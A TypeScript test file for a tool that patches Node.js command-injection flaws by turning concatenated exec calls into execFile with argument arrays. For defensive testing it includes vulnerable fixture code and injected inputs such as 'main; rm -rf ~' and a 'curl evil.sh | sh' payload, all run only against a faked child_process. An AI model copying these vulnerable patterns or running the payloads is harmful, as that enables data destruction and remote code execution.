import { describe, expect, it } from "vitest";
import type { RecipeOutcome } from "../../../src/domain/code-fix.js";
import { commandInjectionRecipe } from "../../../src/patch/recipes/command-injection.js";
import { recipeForRule } from "../../../src/patch/recipes/recipe-for-rule.js";
import { alertAt } from "./helpers/alert-at.js";
import { fakeChildProcess } from "./helpers/fake-child-process.js";
import { loadWithFakes } from "./helpers/load-with-fakes.js";

const fix = (path: string, source: string, needle: string, ruleId = "js/command-line-injection"): RecipeOutcome =>
  commandInjectionRecipe.fix({ source, alert: alertAt(source, path, ruleId, needle) });

const fixed = (outcome: RecipeOutcome): string => {
  if (outcome.status !== "fixed") throw new Error(`expected a fix, got: ${outcome.reason}`);
  return outcome.after;
};

const GIT_LOG_JS = `const express = require("express");
const { exec } = require("child_process");

const router = express.Router();

router.get("/log", (req, res) => {
  exec("git log --oneline " + req.query.branch, (err, stdout) => {
    if (err) return res.status(500).send(err.message);
    res.type("text/plain").send(stdout);
  });
});

module.exports = router;
`;

const DU_TS = `import { execSync } from "node:child_process";

export function diskUsage(dir: string): string {
  const cmd = \`du -sh '\${dir}'\`;
  return execSync(cmd, { encoding: "utf8", timeout: 5000 });
}
`;

/** A minimal express stand-in: the router keeps its handlers so the test can call them. */
function fakeExpress() {
  const routes: Record<string, (req: unknown, res: unknown) => void> = {};
  return { routes, module: { Router: () => ({ get: (path: string, handler: (req: unknown, res: unknown) => void) => (routes[path] = handler) }) } };
}

function fakeResponse() {
  const response = { body: "", code: 200, status: (code: number) => ((response.code = code), response), type: () => response, send: (body: string) => ((response.body = body), response) };
  return response;
}

describe("commandInjectionRecipe", () => {
  it("is found by its CodeQL ids and the Semgrep / eslint-plugin-security aliases", () => {
    for (const id of [
      "js/command-line-injection",
      "js/shell-command-injection-from-environment",
      "js/unsafe-shell-command-construction",
      "javascript.lang.security.detect-child-process.detect-child-process",
      "security/detect-child-process",
    ]) {
      expect(recipeForRule([commandInjectionRecipe], id)).toBe(commandInjectionRecipe);
    }
  });

  it("turns a concatenated exec in an express handler into execFile with an argument array (CommonJS)", () => {
    expect(fixed(fix("routes/log.js", GIT_LOG_JS, '"git log --oneline " + req.query.branch'))).toBe(`const express = require("express");
const { execFile } = require("child_process");

const router = express.Router();

router.get("/log", (req, res) => {
  execFile("git", ["log", "--oneline", req.query.branch], (err, stdout) => {
    if (err) return res.status(500).send(err.message);
    res.type("text/plain").send(stdout);
  });
});

module.exports = router;
`);
  });

  it("runs git for a normal branch, and a branch with `; rm -rf ~` no longer starts a second program", () => {
    const attack = { query: { branch: "main; rm -rf ~" } };

    const vulnerable = fakeChildProcess("abc123 first commit\n");
    const express1 = fakeExpress();
    loadWithFakes(GIT_LOG_JS, { fakes: { express: express1.module, child_process: vulnerable.module } });
    express1.routes["/log"]!(attack, fakeResponse());
    expect(vulnerable.programs()).toEqual(["git", "rm"]); // the injection is real

    const patched = fixed(fix("routes/log.js", GIT_LOG_JS, '"git log --oneline " + req.query.branch'));
    const child = fakeChildProcess("abc123 first commit\n");
    const express2 = fakeExpress();
    loadWithFakes(patched, { fakes: { express: express2.module, child_process: child.module } });
    const response = fakeResponse();
    express2.routes["/log"]!({ query: { branch: "main" } }, response);
    expect(response.body).toBe("abc123 first commit\n");
    express2.routes["/log"]!(attack, fakeResponse());
    expect(child.runs).toEqual([
      { via: "direct", command: "git", args: ["log", "--oneline", "main"] },
      { via: "direct", command: "git", args: ["log", "--oneline", "main; rm -rf ~"] },
    ]);
  });

  it("inlines a const command into execFileSync, keeps the options and renames the import (TypeScript, ESM)", () => {
    expect(fixed(fix("src/du.ts", DU_TS, "execSync(cmd"))).toBe(`import { execFileSync } from "node:child_process";

export function diskUsage(dir: string): string {
  return execFileSync("du", ["-sh", String(dir)], { encoding: "utf8", timeout: 5000 });
}
`);
  });

  it("keeps diskUsage's output and passes a quote-breaking directory as one argument", () => {
    const child = fakeChildProcess("4.0K\t/tmp\n");
    const loaded = loadWithFakes(fixed(fix("src/du.ts", DU_TS, "execSync(cmd")), { fileName: "du.ts", fakes: { child_process: child.module } });
    expect(loaded.diskUsage("/tmp")).toBe("4.0K\t/tmp\n");
    loaded.diskUsage("x'; curl evil.sh | sh; echo '");
    expect(child.runs).toEqual([
      { via: "direct", command: "du", args: ["-sh", "/tmp"] },
      { via: "direct", command: "du", args: ["-sh", "x'; curl evil.sh | sh; echo '"] },
    ]);
  });

  it("rewrites a member call on a namespace import and keeps options and callback", () => {
    const source = `import * as cp from "child_process";

export const ping = (host, cb) => cp.exec(\`ping -c 1 \${host}\`, { timeout: 5000 }, cb);
`;
    expect(fixed(fix("net/ping.mjs", source, "cp.exec"))).toBe(`import * as cp from "child_process";

export const ping = (host, cb) => cp.execFile("ping", ["-c", "1", host], { timeout: 5000 }, cb);
`);
  });

  it("adds execFile next to exec when exec still runs a fixed command, and joins text and value into one argument", () => {
    const source = `#!/usr/bin/env node
const { exec } = require("child_process");

function listing(cb) {
  exec("ls -la", cb);
}

function thumbnail(file, cb) {
  exec(\`convert '\${file}' -resize 50% thumbs/\${file}.png\`, (err) => cb(err));
}
module.exports = { listing, thumbnail };
`;
    const after = fixed(fix("tools/thumbs.js", source, "exec(`convert", "js/unsafe-shell-command-construction"));
    expect(after).toBe(`#!/usr/bin/env node
const { exec, execFile } = require("child_process");

function listing(cb) {
  exec("ls -la", cb);
}

function thumbnail(file, cb) {
  execFile("convert", [file, "-resize", "50%", \`thumbs/\${file}.png\`], (err) => cb(err));
}
module.exports = { listing, thumbnail };
`);
    const child = fakeChildProcess();
    const loaded = loadWithFakes(after, { fakes: { child_process: child.module } });
    loaded.thumbnail("cat.jpg", () => undefined);
    loaded.thumbnail("x.jpg' && touch /tmp/pwned && echo '", () => undefined);
    expect(child.runs.map((r) => r.command)).toEqual(["convert", "convert"]);
    expect(child.runs[1]!.args[0]).toBe("x.jpg' && touch /tmp/pwned && echo '");
  });

  it("rewrites `require(\"child_process\").execSync` used inline", () => {
    const source = `module.exports = (dir) => require("child_process").execSync("du -sh " + dir).toString();\n`;
    expect(fixed(fix("du.js", source, '"du -sh " + dir', "js/shell-command-injection-from-environment"))).toBe(
      `module.exports = (dir) => require("child_process").execFileSync("du", ["-sh", dir]).toString();\n`,
    );
  });

  it.each([
    ["a pipe", `exec("cat " + file + " | grep error", cb);`, /pipe/],
    ["a redirection", `exec("git log " + branch + " > log.txt", cb);`, /redirection/],
    ["&&", `exec("cd repo && git pull origin " + branch, cb);`, /&&/],
    ["a glob", `exec("rm " + dir + "/*.log", cb);`, /glob/],
    ["a shell builtin", `exec("cd " + dir, cb);`, /builtin/],
    ["a dynamic program", `exec(tool + " --version", cb);`, /program name itself/],
    ["an explicit shell", `exec("bash -c 'ls " + dir + "'", cb);`, /runs its arguments/],
    ["a shell option", `exec("git log " + branch, { shell: "/bin/bash" }, cb);`, /ask for a shell/],
    ["options it cannot see", `exec("git log " + branch, opts, cb);`, /not written out/],
    ["arguments joined into one string", `exec("rm " + files.join(" "), cb);`, /joins several arguments/],
    ["a command substitution in double quotes", `exec("echo \\"$(whoami) " + name + "\\"", cb);`, /inside double quotes/],
    ["code for an interpreter", `exec("node -e " + script, cb);`, /code to evaluate/],
    ["a command from a parameter", `exec(command, cb);`, /whole command comes from/],
  ])("declines a command with %s", (_name, call, reason) => {
    const source = `const { exec } = require("child_process");\nfunction run(file, branch, dir, tool, files, name, script, command, opts, cb) {\n  ${call}\n}\n`;
    const outcome = fix("run.js", source, "exec(");
    expect(outcome.status).toBe("declined");
    expect(outcome.status === "declined" && outcome.reason).toMatch(reason);
  });

  it("declines an exec that is not child_process's, a promisified exec and a shell: true spawn", () => {
    const shelljs = `const { exec } = require("shelljs");\nfunction f(x) { exec("cat " + x); }\n`;
    expect(fix("a.js", shelljs, "exec(").status === "declined" && (fix("a.js", shelljs, "exec(") as { reason: string }).reason).toMatch(/cannot be traced to Node/);
    const promisified = `const { exec } = require("child_process");\nconst run = require("util").promisify(exec);\nasync function f(d) { await run("ls " + d); }\n`;
    const outcome = fix("b.js", promisified, 'run("ls');
    expect(outcome.status === "declined" && outcome.reason).toMatch(/promisified/);
    const spawn = `const { spawn } = require("child_process");\nfunction f(d) { spawn("ls " + d, { shell: true }); }\n`;
    const spawned = fix("c.js", spawn, "spawn(");
    expect(spawned.status === "declined" && spawned.reason).toMatch(/`spawn`/);
  });

  it("declines when the alert is on a command with no input in it", () => {
    const source = `const { exec } = require("child_process");\nexec("ls -la", () => {});\n`;
    const outcome = fix("a.js", source, "exec(");
    expect(outcome.status === "declined" && outcome.reason).toMatch(/fixed string/);
  });
});
